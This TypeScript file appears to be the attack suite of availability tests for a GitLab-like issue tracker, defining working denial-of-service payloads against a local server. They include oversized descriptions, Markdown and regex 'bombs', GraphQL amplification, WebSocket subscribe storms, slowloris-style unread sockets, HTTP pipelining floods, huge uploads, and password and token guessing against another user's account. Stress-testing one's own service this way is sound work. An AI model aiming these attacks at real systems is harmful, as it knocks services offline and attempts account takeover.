/**
 * The attacks of the availability tests. `once` prepares an attack; then every connection calls
 * `repeat` in a loop.
 */
import { setTimeout as sleep } from "node:timers/promises";
import { WebSocket } from "ws";
import { ISSUE_DESCRIPTION_MAX } from "@cairn/contract/issues/issues";
import type { AttackerConnection } from "./connection.ts";
import type { AttackTarget } from "./target.ts";

export interface AvailabilityAttack {
  name: string;
  /** Runs once, before the attacker opens its connections. */
  once?(target: AttackTarget): Promise<unknown>;
  /**
   * Every connection calls this in a loop until the attack ends. `round` is the number of the
   * iteration.
   */
  repeat(connection: AttackerConnection, target: AttackTarget, round: number): Promise<number>;
}

const issuesApi = ({ project }: AttackTarget) => `/api/v4/projects/${project.id}/issues`;
const pageOf = ({ project }: AttackTarget, iid: number) => `/${project.path}/-/issues/${iid}`;

function writing(
  connection: AttackerConnection,
  { attacker }: AttackTarget,
  method: string,
  path: string,
  body: object,
) {
  return connection.send({ method, path, body, headers: attacker.headers });
}

/**
 * Sends a request that prepares an attack. Throws when the server refuses it, because the attack
 * would then have no effect.
 */
async function write(
  { url, attacker }: AttackTarget,
  method: string,
  path: string,
  body: object,
): Promise<{ id: string }> {
  const headers = { ...attacker.headers, "content-type": "application/json" };
  const answer = await fetch(url + path, { method, headers, body: JSON.stringify(body) });
  if (!answer.ok) throw new Error(`${method} ${path}: ${answer.status} ${await answer.text()}`);
  return (await answer.json()) as { id: string };
}

export const AVAILABILITY_ATTACKS: readonly AvailabilityAttack[] = [
  {
    name: "N6 pages of sixty descriptions of 1 MiB, requested by a visitor again and again",
    async once(target) {
      for (let count = 0; count < 60; count += 1) {
        const description = `${count} and more words `.repeat(80_000);
        await write(target, "POST", issuesApi(target), {
          title: `Long ${count}`,
          description: description.slice(0, ISSUE_DESCRIPTION_MAX),
        });
      }
    },
    repeat: (connection, target) => connection.send({ path: `${issuesApi(target)}?per_page=100` }),
  },
  {
    name: "C1 a meeting link of 40,000 question marks, opened again and again",
    once: (target) =>
      write(target, "PUT", `${issuesApi(target)}/${target.own.iid}`, {
        description: `https://zoom.us/j/${"?".repeat(40_000)}a`,
      }),
    repeat: (connection, target) => connection.send({ path: pageOf(target, target.own.iid) }),
  },
  {
    name: "C3 a resolved thread of 40,000 image marks, opened again and again",
    async once(target) {
      const path = `${issuesApi(target)}/${target.own.iid}/discussions`;
      const thread = await write(target, "POST", path, { body: "![".repeat(40_000) });
      await write(target, "POST", `${path}/${thread.id}/notes`, { body: "a reply" });
      await write(target, "PUT", `${path}/${thread.id}`, { resolved: true });
    },
    repeat: (connection, target) => connection.send({ path: pageOf(target, target.own.iid) }),
  },
  {
    name: "H1 ticking a box with a line of 100,000 line breaks",
    repeat: (connection, target) =>
      writing(connection, target, "PUT", `${pageOf(target, target.own.iid)}.json`, {
        issue: {
          lock_version: 0,
          update_task: {
            checked: true,
            index: 1,
            line_number: 1,
            line_source: `${"\n".repeat(100_000)}x`,
          },
        },
      }),
  },
  {
    name: "H2 counting issues once for every comment by GraphQL",
    repeat: (connection, { project, issue }, round) => {
      const counts = Array.from(
        { length: 15 },
        (_, n) => `a${n}: issueStatusCounts(search: "w${round}${n}") { all }`,
      );
      const notes = `notes(first: 1, last: 100) { nodes { project { ${counts.join(" ")} } } }`;
      const query = `{ project(fullPath: "${project.path}") { issue(iid: "${issue.iid}") { ${notes} } } }`;
      return connection.send({ method: "POST", path: "/api/graphql", body: { query } });
    },
  },
  { name: "H3 subscribing on the cable and reconnecting", repeat: stormCable },
  {
    name: "H4 an issue of 64 kB of comment openings",
    repeat: (connection, target) =>
      writing(connection, target, "POST", issuesApi(target), {
        title: "x",
        description: "<!--".repeat(16_384),
      }),
  },
  {
    name: "M2 wrong passwords for somebody else's account",
    repeat: (connection, { victim }) =>
      connection.send({
        method: "POST",
        path: "/users/sign_in",
        body: { user: { login: victim.login, password: "not the password" } },
      }),
  },
  {
    name: "M4 a comment of 100 quick actions on other issues",
    repeat: (connection, target) =>
      writing(connection, target, "POST", `${issuesApi(target)}/${target.own.iid}/notes`, {
        body: Array.from({ length: 100 }, (_, n) => `/duplicate #${n + 1}`).join("\n"),
      }),
  },
  {
    name: "M5 signing in with 150,000 unknown fields",
    repeat: (connection) => connection.send({ method: "POST", path: "/users/sign_in", body: MANY }),
  },
  { name: "M6 readers that do not read", repeat: askWithoutReading },
  { name: "M6 a hundred requests at once on one connection", repeat: pipeline },
  {
    name: "M7 uploads of 10 MB",
    repeat: (connection, { project, attacker }) =>
      connection.send({
        method: "POST",
        path: `/api/v4/projects/${project.id}/uploads`,
        headers: { ...attacker.headers, "content-type": "multipart/form-data; boundary=cut" },
        body: TEN_MEGABYTES,
      }),
  },
  {
    name: "descriptions of 1 MiB, changed again and again",
    repeat: (connection, target, round) =>
      writing(connection, target, "PUT", `${issuesApi(target)}/${target.own.iid}`, {
        description: `${round} `.repeat(ISSUE_DESCRIPTION_MAX).slice(0, ISSUE_DESCRIPTION_MAX),
      }),
  },
  {
    name: "previews of hostile Markdown",
    repeat: (connection, target, round) =>
      writing(connection, target, "POST", `/${target.project.path}/preview_markdown`, {
        text: (BOMBS[round % BOMBS.length] ?? "").repeat(20_000).slice(0, 65_000),
      }),
  },
  {
    name: "searching",
    repeat: (connection, target, round) =>
      connection.send({
        path: `${issuesApi(target)}?search=${"abcdefgh"[round % 8] ?? ""}${round}&in=title,description`,
        headers: target.attacker.headers,
      }),
  },
  {
    name: "pages as a visitor",
    repeat: (connection, target) => connection.send({ path: pageOf(target, target.issue.iid) }),
  },
  {
    name: "guessing tokens",
    repeat: (connection, target, round) =>
      connection.send({
        path: issuesApi(target),
        headers: { "private-token": `glpat-${"x".repeat(20)}${round}` },
      }),
  },
];

const BOMBS = ["<", "<details>", "![", "[a](", "`", "*a_", "> ", "<!--", "|a", "$`", "&", "<b "];
const MANY = {
  user: { login: "nobody", password: "nothing" },
  ...Object.fromEntries(Array.from({ length: 150_000 }, (_, n) => [`a${n}`, 1])),
};
const TEN_MEGABYTES = Buffer.concat([
  Buffer.from('--cut\r\nContent-Disposition: form-data; name="file"; filename="a.bin"\r\n\r\n'),
  Buffer.alloc(10_000_000 - 1_000, "x"),
  Buffer.from("\r\n--cut--\r\n"),
]);

/**
 * Opens a WebSocket and sends as many subscribe commands as one socket is allowed. The next
 * iteration uses a new socket.
 */
async function stormCable(_: AttackerConnection, target: AttackTarget): Promise<number> {
  const socket = new WebSocket(
    `${target.url.replace("http", "ws")}/-/cable`,
    ["actioncable-v1-json"],
    { localAddress: "127.0.0.2" },
  );
  try {
    const opened = await new Promise<boolean>((resolve) => {
      socket.once("open", () => resolve(true));
      socket.once("error", () => resolve(false));
    });
    if (!opened) {
      await sleep(10);
      return 0;
    }
    for (let count = 0; count < 60; count += 1) {
      const iid = String(count + 1);
      const channel = { channel: "IssuesChannel", project_path: target.project.path, iid };
      const identifier = JSON.stringify(channel);
      socket.send(JSON.stringify({ command: "subscribe", identifier }));
    }
    await sleep(400);
    return 101;
  } finally {
    socket.terminate();
  }
}

/**
 * Requests a large response and never reads it. Keeps the sockets open until the server closes
 * them.
 */
async function askWithoutReading(connection: AttackerConnection): Promise<number> {
  const sockets = Array.from({ length: 3 }, () => connection.socket().pause());
  for (const socket of sockets) {
    socket.write("GET /api/v4/openapi.json HTTP/1.1\r\nHost: localhost:3000\r\n\r\n");
  }
  await sleep(100);
  return 0;
}

async function pipeline(connection: AttackerConnection): Promise<number> {
  const socket = connection.socket();
  socket.pause();
  socket.write("GET /api/v4/openapi.json HTTP/1.1\r\nHost: localhost:3000\r\n\r\n".repeat(100));
  await sleep(500);
  socket.destroy();
  return 0;
}
